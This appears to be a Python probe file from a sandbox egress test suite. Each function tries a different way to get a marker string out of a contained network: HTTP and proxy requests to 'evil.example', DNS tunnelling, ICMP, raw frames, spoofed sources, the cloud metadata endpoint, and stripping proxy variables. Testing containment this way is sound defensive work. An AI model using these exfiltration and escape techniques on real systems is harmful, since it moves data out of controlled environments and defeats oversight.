"""Attempts to send bytes out, each a function that sends ``mark(NAME)`` its own way.

As ``probes``: runs inside and, as the control, in a network whose other end is a witness. What a
probe returns does not matter; the witness says what arrived.
"""

# ruff: noqa: ANN001, PLR0917 - short, and read by nobody's checker
from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
V4, V6 = "198.18.7.7", "2001:db8:7::7"
MARK = "HARK-OUT-"
NAME = ""
IP, IPV6, TCP, SOL = 0, 41, 6, 1


def mark() -> bytes:
    return f"{MARK}{NAME};".encode() * 4


def udp(address, port, options=(), data=None, family=None, protocol=0, source=None):
    family = family or (socket.AF_INET6 if ":" in address else socket.AF_INET)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        for option in options:
            s.setsockopt(*option)
        if source:
            s.bind(source)
        s.connect((address, port))
        return s.send(data or mark())


def tcp(address, port, options=(), data=None, source=None, flags=0):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(2)
        for option in options:
            s.setsockopt(*option)
        if source:
            s.bind(source)
        s.connect((address, port))
        s.send(data or mark(), flags)
        with contextlib.suppress(OSError):
            return s.recv(64)


def http(host, path="/"):
    return (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nX: {mark().decode()}\r\n\r\n"
    )


def question(kind):
    label = mark()[:63]
    return (
        b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + bytes([len(label)]) + label
        + b"\x04evil\x07example\0" + struct.pack(">HH", kind, 1)
    )  # fmt: skip


def plain_http_c28():
    tcp(V4, 80, data=http("evil.example").encode())


def other_port_c34():
    tcp(V4, 8080, data=http("evil.example").encode())


def forward_proxy_form_c30():
    text = http("evil.example", path="http://evil.example/")
    tcp(V4, 80, data=text.encode())


def unknown_protocol():
    tcp(V4, 22, data=b"SSH-2.0-" + mark() + b"\r\n")


def mail():
    tcp(V4, 25)


def tls_without_a_name():
    tcp(V4, 443, data=b"\x16\x03\x01\x00\x40\x01\x00\x00\x3c\x03\x03" + mark())


def ipv6_tcp_c39():
    tcp(V6, 80, data=http("evil.example").encode())


def ipv6_udp_c39():
    udp(V6, 443)


def mapped_tcp_c40():
    tcp("::ffff:" + V4, 80, data=http("evil.example").encode())


def mapped_udp_c40():
    udp("::ffff:" + V4, 443)


def quic():
    udp(V4, 443)


def time_protocol():
    udp(V4, 123)


def lite_datagram():
    udp(V4, 999, protocol=136)


def fragments():
    udp(V4, 999, data=mark() * 400)


def fragments_to_dns_port_c37():
    udp(V4, 53, data=mark() * 400)


def dns_tunnel_c36():
    udp(V4, 53, data=question(1))


def dns_text_tunnel_c36():
    udp(V4, 53, data=question(16))


def dns_to_the_resolver_c32():
    udp(str(Path("/etc/resolv.conf").read_text().split()[1]), 53, data=question(1))


def dns_over_tcp_c37():
    data = question(1)
    tcp(V4, 53, data=struct.pack(">H", len(data)) + data)


def dns_over_tls_c37():
    tcp(V4, 853, data=b"\x16\x03\x01\x00\x40\x01\x00\x00\x3c\x03\x03" + mark())


def dns_port_from_dns_port():
    udp(V4, 53, data=mark())


def answer_to_the_resolver():
    udp(V6, 53, data=b"\x12\x34\x81\x80" + mark())


def multicast():
    udp("224.0.0.251", 5353)


def multicast_v6():
    index = struct.pack("i", socket.if_nametoindex("eth0"))
    udp("ff02::fb", 5353, [(IPV6, 17, index)])


def broadcast():
    udp("255.255.255.255", 999, [(SOL, socket.SO_BROADCAST, 1)])


def fast_open():
    with socket.socket() as s:
        s.sendto(http("evil.example").encode(), 0x20000000, (V4, 80))
        s.settimeout(2)
        with contextlib.suppress(OSError):
            s.recv(64)


def urgent_data():
    tcp(V4, 80, flags=socket.MSG_OOB)


def segmented_datagrams():
    udp(V4, 999, [(17, 103, 100)], data=mark() * 10)  # UDP_SEGMENT


def copy_free():
    tcp(V4, 80, [(SOL, 60, 1)], flags=0x4000000)


def connect_by_sendmmsg():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        data = ctypes.create_string_buffer(mark())
        to = ctypes.create_string_buffer(
            struct.pack("=H", 2) + struct.pack(">H", 999) + socket.inet_aton(V4) + bytes(8)
        )
        vec = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), len(mark())))
        one = struct.pack(
            "QIxxxxQQQQi4x", ctypes.addressof(to), 16, ctypes.addressof(vec), 1, 0, 0, 0
        )
        LIBC.syscall(ctypes.c_long(307), s.fileno(), one + struct.pack("Q", 0), 1, 0)


def bound_to_the_device():
    udp(V4, 999, [(SOL, 25, b"eth0\0")])


def foreign_source_v6():
    udp(V6, 999, [(IPV6, 78, 1)], source=("2001:db8:9::9", 0))


def segment_routing():
    hop = socket.inet_pton(socket.AF_INET6, V6)
    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + hop + hop
    udp("2001:db8:7::8", 999, [(IPV6, 57, header)])


def record_route_option():
    udp(V4, 999, [(IP, 4, bytes([7, 7, 4, 0, 0, 0, 0, 0]))])


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as s:
        s.sendto(b"\x08\0\0\0\0\1\0\1" + mark(), (V4, 0))


def ping_v6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as s:
        s.sendto(b"\x80\0\0\0\0\1\0\1" + mark(), (V6, 0))


def gateway_c43():
    route = Path("/proc/net/route").read_text().splitlines()[1:]
    gateway = next(w[2] for w in (line.split() for line in route) if w[1] == "00000000")
    tcp(socket.inet_ntoa(struct.pack("=I", int(gateway, 16))), 22)


def metadata_service():
    tcp("169.254.169.254", 80, data=http("169.254.169.254").encode())


def reconnected_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((V4, 53))
        s.connect((V4, 999))
        s.send(mark())


def without_the_variables_c1_c3():
    for name in [n for n in os.environ if "proxy" in n.lower() or "CERT" in n]:
        del os.environ[name]
    tcp(V4, 443, data=http("evil.example").encode())


# --- what needs a privilege: controls run as root
def marked():
    udp(V4, 999, [(SOL, 36, 1)])


def transparent_source():
    udp(V4, 999, [(IP, 19, 1)], source=("203.0.113.9", 0))


def source_route():
    udp(V4, 999, [(IP, 4, bytes([131, 7, 4, *socket.inet_aton(V4), 0]))])


def destination_options():
    udp(V6, 999, [(IPV6, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0]))])


def raw_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as s:
        s.sendto(mark(), (V4, 0))


def raw_ping():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as s:
        s.sendto(b"\x08\0\0\0\0\1\0\1" + mark(), (V4, 0))


def raw_frame():
    with socket.socket(17, socket.SOCK_RAW, 0x0300) as s:
        s.bind(("eth0", 0x0800))
        s.send(b"\xff" * 6 + b"\2hark\2\x08\0" + mark())


def cooked_packet():
    with socket.socket(17, socket.SOCK_DGRAM, 0) as s:
        s.sendto(mark(), ("eth0", 0x88B5, 0, 0, b"\xff" * 6))


PERSON = [
    "plain_http_c28", "other_port_c34", "forward_proxy_form_c30", "unknown_protocol", "mail",
    "tls_without_a_name", "ipv6_tcp_c39", "ipv6_udp_c39", "mapped_tcp_c40", "mapped_udp_c40",
    "quic", "time_protocol", "lite_datagram", "fragments", "fragments_to_dns_port_c37",
    "dns_tunnel_c36", "dns_text_tunnel_c36", "dns_to_the_resolver_c32", "dns_over_tcp_c37",
    "dns_over_tls_c37", "dns_port_from_dns_port", "answer_to_the_resolver", "multicast",
    "multicast_v6", "broadcast", "fast_open", "urgent_data", "segmented_datagrams", "copy_free",
    "connect_by_sendmmsg", "bound_to_the_device", "foreign_source_v6", "segment_routing",
    "record_route_option", "ping", "ping_v6", "gateway_c43", "metadata_service",
    "reconnected_socket", "without_the_variables_c1_c3",
]  # fmt: skip
ROOT = [
    "marked", "transparent_source", "source_route", "destination_options", "raw_ip", "raw_ping",
    "raw_frame", "cooked_packet",
]  # fmt: skip


def main() -> None:
    global NAME  # noqa: PLW0603 - one probe a process
    if sys.argv[3:] == ["alone"]:
        NAME = sys.argv[2]
        try:
            globals()[NAME]()
            said = ""
        except Exception as exc:  # noqa: BLE001 - whatever the kernel or Python says
            said = str(exc)
        sys.stdout.write(json.dumps(said))
        return
    out = {}
    for name in sys.argv[2].split(","):
        words = [sys.executable, "-I", "-S", __file__, sys.argv[1], name, "alone"]
        out[name] = subprocess.run(words, stdout=subprocess.PIPE, check=False).stdout.decode()
    sys.stdout.write(json.dumps(out))


if __name__ == "__main__":
    main()
